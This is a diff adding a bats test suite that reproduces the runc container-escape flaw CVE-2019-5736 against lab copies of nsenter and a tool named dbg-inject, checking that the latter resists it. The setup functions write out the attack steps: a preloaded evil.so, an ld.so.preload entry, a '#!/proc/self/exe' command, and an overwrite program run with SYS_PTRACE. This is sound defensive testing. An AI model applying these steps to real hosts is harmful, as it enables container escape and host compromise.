@@ -1,0 +1,101 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: LGPL-2.1-or-later
+# shellcheck disable=SC2030,SC2031,SC2154 # a test is a subshell, with the variables of bats
+# G1: overwrite the host's program through /proc/PID/exe
+#
+# CVE-2019-5736 (runc). Who enters a container becomes one of its processes, and runs the host's program until the command is
+# executed: /proc/PID/exe is that program's file, and root of the container may open it for writing as soon as it has ended.
+# A command that is `#!/proc/self/exe` has the program run once more, inside, with libraries of the container's.
+# The host's programs are copies in $LAB here.
+
+bats_require_minimum_version 1.5.0
+load gauntlet
+
+setup() {
+	[ -e "$LAB/overwrite" ] || compile overwrite
+	cp -p "$DBG_INJECT" "$LAB/dbg-inject"
+	cp -pL "$(command -v nsenter)" "$LAB/nsenter"
+	before=$(sha256sum "$LAB/dbg-inject" "$LAB/nsenter")
+}
+
+# To open /proc/PID/exe of a process with more capabilities takes CAP_SYS_PTRACE.
+watch_run() {
+	container_run "$RUNTIME" c --network none --cap-add SYS_PTRACE -v "$LAB/overwrite:/overwrite:ro" --entrypoint /overwrite -- \
+		fat watch
+	wait_for 10 caught ready
+}
+
+caught() { # WORD
+	podman logs c | grep -qx -e "$1"
+}
+
+changed() {
+	[ "$(sha256sum "$LAB/dbg-inject" "$LAB/nsenter")" != "$before" ]
+}
+
+# enter_often COUNT COMMAND...: until the host's program is another.
+enter_often() {
+	local count=$1 round
+	shift
+	for ((round = 1; round <= count; round++)); do
+		"$@" || break
+		! changed || break
+	done >"$LAB/rounds" 2>&1
+	echo "entered $round times"
+}
+
+# The command /evil of the container c, which has the host's loader and libraries, one more, and a program that waits.
+script_run() {
+	local root
+	container_run "$RUNTIME" c --network none --cap-add SYS_PTRACE -- fat
+	root=/proc/$(container_pid c)/root
+	ldd "$LAB/dbg-inject" "$LAB/nsenter" | grep -o '/[^ :]*' | grep '^/.*so' | sort -u | xargs cp -L --parents -t "$root/"
+	cc -shared -fPIC -D_GNU_SOURCE -o "$root/evil.so" "$gauntlet_dir/evil-preload.c"
+	cp "$LAB/overwrite" "$root/overwrite"
+	echo /evil.so >"$root/etc/ld.so.preload"
+	printf '#!/proc/self/exe\n' >"$root/evil"
+	chmod 755 "$root/evil"
+	overwrite_log=$root/overwrite.log
+}
+
+@test "naive: nsenter is overwritten while it enters" {
+	watch_run
+	enter_often 500 "$LAB/nsenter" -t "$(container_pid c)" -a /bin/true
+	wait_for 10 changed
+	assert_equal "$("$LAB/nsenter")" OVERWRITTEN
+}
+
+@test "naive: nsenter is overwritten by the command #!/proc/self/exe" {
+	script_run
+	"$LAB/nsenter" -t "$(container_pid c)" -a /evil || true
+	wait_for 10 changed
+	assert_equal "$("$LAB/nsenter")" OVERWRITTEN
+}
+
+@test "ours: dbg-inject is got hold of, and cannot be written to" {
+	watch_run
+	enter_often 25 "$LAB/dbg-inject" c /bin/true
+	wait_for 10 caught 'Read-only file system'
+	enter_often 3 "$LAB/dbg-inject" c true
+	enter_often 1 "$LAB/dbg-inject" --detach c
+	enter_often 1 "$LAB/dbg-inject" --attach c
+	podman logs c | sort | uniq -c
+	assert_equal "$(podman logs c | sort -u | grep -vx -e ready -e 'Read-only file system')" ""
+	assert_equal "$(sha256sum "$LAB/dbg-inject" "$LAB/nsenter")" "$before"
+}
+
+@test "ours: nor by the command #!/proc/self/exe" {
+	script_run
+	"$LAB/dbg-inject" c /evil || true
+	wait_for 10 grep -qx 'Read-only file system' "$overwrite_log"
+	assert_equal "$(sha256sum "$LAB/dbg-inject" "$LAB/nsenter")" "$before"
+}
+
+# Where the program's file system cannot be cloned as a mount.
+@test "ours: nor where dbg-inject runs from a file in memory" {
+	script_run
+	strace -o /dev/null -e trace=open_tree -e inject=open_tree:error=EINVAL:when=1 "$LAB/dbg-inject" c /evil || true
+	wait_for 10 grep -q . "$overwrite_log"
+	assert_equal "$(cat "$overwrite_log")" 'Operation not permitted'
+	assert_equal "$(sha256sum "$LAB/dbg-inject" "$LAB/nsenter")" "$before"
+}
